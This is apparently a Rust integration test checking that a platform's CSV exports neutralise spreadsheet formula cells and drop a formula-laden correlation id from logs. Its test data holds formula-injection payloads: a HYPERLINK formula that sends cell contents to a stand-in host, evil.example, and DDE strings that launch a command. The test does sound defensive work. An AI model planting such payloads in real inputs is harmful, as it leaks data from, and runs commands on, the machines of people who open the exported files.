//! Every CSV the platform writes is safe to open in a spreadsheet: no cell begins with a
//! formula character, whoever typed it, and a client's correlation id that is not a plain
//! token never reaches the log.

use tillit_integration_tests::identity::bearer;
use tillit_integration_tests::platform::Platform;
use tillit_proto::assets::AssetKind;
use tillit_proto::assets::assets_service_client::AssetsServiceClient;
use tillit_proto::assets::{
    Classification, GetProcessingRecordRequest, Processing, RecordProcessingRequest,
    RegisterAssetRequest,
};
use tillit_proto::reporting::reporting_service_client::ReportingServiceClient;
use tillit_proto::reporting::{AuditFilter, ExportAuditRequest};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

/// Every cell of a CSV document that begins with a character a spreadsheet would run.
fn formula_cells(csv: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv);
    reader
        .records()
        .flat_map(|record| {
            record
                .expect("well-formed CSV")
                .iter()
                .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[tokio::test]
async fn exports_neutralise_formula_cells_and_a_formula_correlation_id_is_not_kept() {
    let platform = Platform::start().await;
    let officer = &platform.officer.0;
    let mut assets = AssetsServiceClient::new(platform.assets.channel().await);
    let mut register = bearer(
        officer,
        RegisterAssetRequest {
            tenant_id: "acme".into(),
            name: FORMULA.into(),
            kind: AssetKind::Database.into(),
            owner_user_id: String::new(),
            description: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            classification: Some(Classification {
                confidentiality: 3,
                integrity: 2,
                availability: 2,
            }),
            classification_rationale: "+1".into(),
            consistency: None,
        },
    );
    register.metadata_mut().insert(
        "x-correlation-id",
        "=cmd|' /C calc'!A0".parse().expect("ascii"),
    );
    let asset = assets
        .register_asset(register)
        .await
        .expect("register")
        .into_inner()
        .asset
        .expect("asset");
    let recorded = assets
        .record_processing(bearer(
            officer,
            RecordProcessingRequest {
                asset_id: asset.asset_id.clone(),
                processing: Some(Processing {
                    data_categories: vec!["-contact details".into()],
                    data_subjects: vec!["@customers".into()],
                    purpose: "=1+1".into(),
                    retention: "+3 years".into(),
                    ..Default::default()
                }),
                consistency: None,
            },
        ))
        .await
        .expect("processing")
        .into_inner();
    let record = assets
        .get_processing_record(bearer(
            officer,
            GetProcessingRecordRequest {
                tenant_id: "acme".into(),
                consistency: recorded.consistency.clone(),
            },
        ))
        .await
        .expect("record")
        .into_inner();
    assert!(
        record
            .csv
            .contains(&format!("'{}", FORMULA.replace('"', "\"\""))),
        "{}",
        record.csv
    );
    assert_eq!(
        formula_cells(record.csv.as_bytes()),
        Vec::<String>::new(),
        "{}",
        record.csv
    );

    let (reporting, _data) = platform.reporting(time::Duration::ZERO).await;
    let mut reporting = ReportingServiceClient::new(reporting.channel().await);
    let mut export = reporting
        .export_audit(bearer(
            &platform.auditor,
            ExportAuditRequest {
                filter: Some(AuditFilter {
                    stream: "ASSETS".into(),
                    ..Default::default()
                }),
                consistency: recorded.consistency,
            },
        ))
        .await
        .expect("export")
        .into_inner();
    let mut csv = Vec::new();
    while let Some(piece) = export.message().await.expect("piece") {
        csv.extend(piece.csv);
    }
    let text = String::from_utf8_lossy(&csv);
    assert!(text.contains("RegisterAsset"), "{text}");
    assert!(
        !text.contains("cmd|"),
        "the formula correlation id was kept: {text}"
    );
    assert_eq!(formula_cells(&csv), Vec::<String>::new(), "{text}");
}
